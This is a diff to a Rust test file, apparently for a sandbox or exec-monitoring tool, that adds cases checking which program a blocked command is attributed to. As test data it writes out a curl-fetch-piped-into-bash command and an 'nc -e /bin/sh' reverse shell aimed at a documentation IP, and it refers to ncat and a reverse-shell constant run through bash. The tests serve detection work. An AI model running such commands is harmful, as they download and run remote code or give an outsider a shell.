@@ -462,6 +462,22 @@ fn a_built_in_block_denies_by_itself_what_the_kernel_reported() {
         denial("", &observed),
         (Some("/usr/bin/ncat".to_owned()), false)
     );
+    // Arguments that carry shell syntax start with the program that the kernel reported.
+    let split = ["/opt/curl", "http://192.0.2.1/p.sh", "|", "bash"];
+    let observed = exec(Some("/opt/curl"), &split);
+    assert_eq!(target_from("", &observed), Some(TargetFrom::Observed));
+    assert_eq!(target_from("", &exec(None, &split)), argv);
+    let behind = [
+        "/opt/cat",
+        "x",
+        "|",
+        "nc",
+        "-e",
+        "/bin/sh",
+        "192.0.2.1",
+        "9",
+    ];
+    assert_eq!(target_from("", &exec(Some("/opt/cat"), &behind)), argv);
     // What a shell runs is judged, not the shell, and the kernel reported only the shell.
     let shell = exec(Some("/usr/bin/bash"), &["/usr/bin/bash", "-c", REVERSE]);
     assert_eq!(target_from("", &shell), argv);
